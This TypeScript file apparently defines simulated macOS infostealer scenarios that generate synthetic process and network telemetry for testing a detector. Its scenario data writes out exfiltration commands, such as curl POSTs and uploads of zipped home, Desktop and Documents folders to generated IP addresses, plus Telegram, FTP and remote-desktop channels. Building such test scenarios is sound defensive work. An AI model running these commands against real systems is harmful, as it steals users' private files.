import { inventWord } from '../invent.js';
import { MINUTE, SECOND } from '../machine.js';
import {
  adHoc,
  BREW_NODE,
  BREW_PYTHON,
  CURL,
  DITTO,
  INSTALLER,
  OSASCRIPT,
  PKG_NODE,
  SH,
  unsigned,
  ZIP,
} from '../fleet/programs.js';
import type { Attack } from './scenario.js';
import type { Stage } from './stage.js';

function attack(scenario: Omit<Attack, 'kind'>): Attack {
  return { kind: 'attack', ...scenario };
}

/** A program somebody just opened from a disk image or the downloads folder. */
function lure(stage: Stage, path: string): ReturnType<Stage['exec']> {
  const program = stage.random.chance(0.5)
    ? adHoc(path, `${inventWord(stage.random)}-${stage.random.hex(32)}`, stage.random.hex(8))
    : unsigned(path);
  return stage.exec(program, { until: stage.start + 4 * MINUTE });
}

const SECRET_ARCHIVES = [
  '/tmp/out.zip',
  '/private/tmp/osalogging.zip',
  '/tmp/data.zip',
  '/private/tmp/a.zip',
];

export const STEALERS: readonly Attack[] = [
  attack({
    id: 'A01',
    title: 'Infostealer smash-and-grab',
    difficulty: 'must',
    techniques: ['T1041', 'T1560.001', 'T1059.002'],
    uses: ['curl', 'osascript'],
    presence: 'active',
    campaign: 180,
    play: (stage) => {
      const name = inventWord(stage.random);
      const app = lure(stage, `/Volumes/${name}/${name}.app/Contents/MacOS/${name}`);
      const installer = stage.exec(INSTALLER, {
        at: stage.start - 20 * SECOND,
        until: stage.start + 5 * MINUTE,
      });
      const script = stage.exec(OSASCRIPT, {
        args: ['osascript', '-e', 'set release to true'],
        parent: app,
        responsible: app,
        at: stage.start + SECOND,
        until: stage.start + 3 * MINUTE,
      });
      const sh = stage.exec(SH, {
        args: ['sh', '-c', 'ditto -c -k && curl'],
        parent: script,
        responsible: installer,
        at: stage.start + 20 * SECOND,
        until: stage.start + 3 * MINUTE,
      });
      const archive = stage.random.pick(SECRET_ARCHIVES);
      stage.exec(DITTO, {
        args: ['ditto', '-c', '-k', '--sequesterRsrc', `${stage.home}/fg/`, archive],
        parent: sh,
        at: stage.start + 40 * SECOND,
        until: stage.start + 60 * SECOND,
      });
      const to = stage.rawAddress(80);
      const curl = stage.exec(CURL, {
        args: [
          'curl',
          '-X',
          'POST',
          '-H',
          'user: c1',
          '-H',
          'BuildID: 9',
          '-H',
          'cl: 0',
          '-F',
          `file=@${archive}`,
          `http://${to.ip}/p2p`,
        ],
        parent: sh,
        responsible: app,
        at: stage.start + 61 * SECOND,
        until: stage.start + 62 * SECOND,
      });
      // Size must not matter to the verdict, so it varies more than elsewhere.
      stage.connect(curl, {
        at: curl.start + 300,
        seconds: stage.around(20),
        out: stage.random.pick([2e6, 40e6, 40e6, 200e6]) * stage.around(1),
        in: stage.around(2000),
        to,
      });
    },
  }),
  attack({
    id: 'A02',
    title: 'Stealer that zips, encodes and posts to an address',
    difficulty: 'must',
    techniques: ['T1041', 'T1132.001', 'T1560.001'],
    uses: ['curl'],
    presence: 'active',
    campaign: 120,
    play: (stage) => {
      const binary = lure(stage, `${stage.home}/Downloads/${inventWord(stage.random)}/Setup`);
      stage.exec(DITTO, {
        args: ['ditto', '-c', '-k', '/tmp/tempFolder-3', '/tmp/tempFolder-3.zip'],
        parent: binary,
        at: stage.start + 30 * SECOND,
        until: stage.start + 35 * SECOND,
      });
      const lookup = stage.exec(CURL, {
        args: ['curl', '-s', 'https://freeipapi.com/api/json/'],
        parent: binary,
        at: stage.start + 3 * SECOND,
        until: stage.start + 4 * SECOND,
      });
      stage.connect(lookup, {
        at: lookup.start + 50,
        seconds: 1,
        out: 700,
        in: 5200,
        to: stage.named('freeipapi.com'),
      });
      const to = stage.rawAddress(80);
      const sh = stage.exec(SH, {
        args: ['sh', '-c', 'curl -X POST'],
        parent: binary,
        at: stage.start + 70 * SECOND,
        until: stage.start + 90 * SECOND,
      });
      const curl = stage.exec(CURL, {
        args: [
          'curl',
          '-X',
          'POST',
          '-H',
          'Content-Type: application/json',
          '-d',
          '@/tmp/tempFolder-3.b64',
          `http://${to.ip}/send/`,
        ],
        parent: sh,
        responsible: binary,
        at: stage.start + 71 * SECOND,
        until: stage.start + 72 * SECOND,
      });
      stage.connect(curl, {
        at: curl.start + 100,
        seconds: stage.around(15),
        out: stage.around(27e6),
        in: stage.around(1500),
        to,
      });
    },
  }),
  attack({
    id: 'A03',
    title: 'AppleScript stealer started from a disk image',
    difficulty: 'must',
    techniques: ['T1041', 'T1059.002'],
    uses: ['osascript'],
    presence: 'active',
    campaign: 300,
    play: (stage) => {
      const binary = stage.exec(
        unsigned(`/Volumes/${inventWord(stage.random)}/${inventWord(stage.random)}`),
        { until: stage.start + 5 * MINUTE },
      );
      const to = stage.rawAddress(80);
      const script = stage.exec(OSASCRIPT, {
        args: ['osascript', '-'],
        parent: binary,
        responsible: binary,
        at: stage.start + 2 * SECOND,
        until: stage.start + 4 * MINUTE,
      });
      stage.connect(script, {
        at: stage.start + stage.random.between(60, 180) * SECOND,
        seconds: stage.around(30),
        out: stage.around(15e6),
        in: stage.around(3000),
        to,
      });
    },
  }),
  attack({
    id: 'A04',
    title: 'File-by-file theft, one short process each',
    difficulty: 'must',
    techniques: ['T1048.003', 'T1020', 'T1119'],
    uses: ['curl'],
    presence: 'any',
    campaign: 14_400,
    play: (stage) => {
      const app = stage.exec(
        unsigned(`${stage.home}/Library/Application Support/${inventWord(stage.random)}/sync`),
        { until: undefined },
      );
      const to = stage.rented(80);
      const campaign = stage.around(14_400);
      stage.send({
        from: (index, at) =>
          stage.exec(CURL, {
            at: at - 100,
            until: at + SECOND,
            args: [
              'curl',
              '--upload-file',
              `${stage.home}/Documents/file${index}.pdf`,
              `http://${to.name}/u/`,
            ],
            parent: app,
            responsible: app,
            user: stage.user,
          }),
        to,
        connections: stage.around(1500),
        seconds: 2,
        out: stage.around(900e6),
        in: 600e3,
        campaign,
      });
    },
  }),
  attack({
    id: 'A05',
    title: 'Archive of the desktop sent after a wait of half a day',
    difficulty: 'must',
    techniques: ['T1041', 'T1497.003', 'T1560.001', 'T1573.001'],
    uses: ['implant'],
    presence: 'any',
    campaign: 43_200,
    roles: ['developer'],
    play: (stage) => {
      const sh = stage.exec(SH, { args: ['/bin/sh', '-c', 'xcassets.sh'], until: stage.start + 20 * SECOND });
      const name = inventWord(stage.random);
      const app = stage.exec(
        adHoc(
          `${stage.home}/Library/Caches/GameKit/.${name}/${name}.app/Contents/MacOS/applet`,
          `applet-${stage.random.hex(24)}`,
        ),
        { parent: sh, at: stage.start + 5 * SECOND },
      );
      const to = stage.rented(stage.random.pick([443, 8443, 1443, 4443]));
      const at = stage.start + stage.random.between(9, 14) * 3600 * SECOND;
      stage.exec(ZIP, {
        at: at - 60 * SECOND,
        until: at - 5 * SECOND,
        args: ['zip', '-r', '/tmp/desktop.zip', `${stage.home}/Desktop`, '-x', '*.git*'],
        parent: app,
      });
      stage.send({
        from: app,
        to,
        connections: 2,
        seconds: stage.around(90),
        out: stage.around(180e6, 1.5),
        in: 20e3,
        campaign: 900,
        at: Math.min(at, stage.end - 3600 * SECOND),
      });
    },
  }),
  attack({
    id: 'A07',
    title: 'JavaScript stealer in node on an odd port',
    difficulty: 'must',
    techniques: ['T1041', 'T1571', 'T1059.007'],
    uses: ['node'],
    presence: 'active',
    campaign: 900,
    roles: ['developer'],
    play: (stage) => {
      const project = `${stage.home}/${stage.random.pick(['src', 'Downloads', 'work'])}/${inventWord(stage.random)}`;
      const to = stage.rawAddress(stage.random.pick([1224, 1244]));
      const node = stage.command(stage.random.chance(0.5) ? BREW_NODE : PKG_NODE, ['node', 'server.js'], {
        script: `${project}/server.js`,
        cwd: project,
      });
      stage.send({
        from: node,
        to,
        connections: stage.around(25),
        seconds: 10,
        out: stage.around(30e6),
        in: 5e6,
        campaign: stage.around(900),
      });
    },
  }),
  attack({
    id: 'A08',
    title: 'Python stealer over FTP, a bot API and a remote desktop',
    difficulty: 'must',
    techniques: ['T1048.003', 'T1567', 'T1219.002', 'T1095'],
    uses: ['python', 'anydesk'],
    presence: 'active',
    campaign: 259_200,
    roles: ['developer', 'scientist'],
    play: (stage) => {
      const node = stage.exec(BREW_NODE, {
        args: ['node', `${stage.home}/.npl`],
        script: `${stage.home}/.npl`,
        until: stage.start + MINUTE,
      });
      const python = stage.exec(BREW_PYTHON, {
        args: ['python3', `${stage.home}/.n2/pay`],
        script: `${stage.home}/.n2/pay`,
        parent: node,
        at: stage.start + 5 * SECOND,
      });
      const total = stage.around(600e6);
      const campaign = stage.around(259_200, 1.4);
      stage.send({
        from: python,
        to: stage.rawAddress(21),
        connections: stage.around(20),
        seconds: 30,
        out: total * 0.5,
        in: 10e6,
        campaign,
      });
      stage.send({
        from: python,
        to: stage.named('api.telegram.org'),
        connections: stage.around(16),
        seconds: 20,
        out: total * 0.15,
        in: 4e6,
        campaign,
      });
      stage.send({
        from: python,
        to: stage.rawAddress(stage.random.pick([1245, 2245, 3001, 5000])),
        connections: 4,
        seconds: 4 * 3600,
        out: total * 0.2,
        in: 9e6,
        campaign,
      });
    },
  }),
];
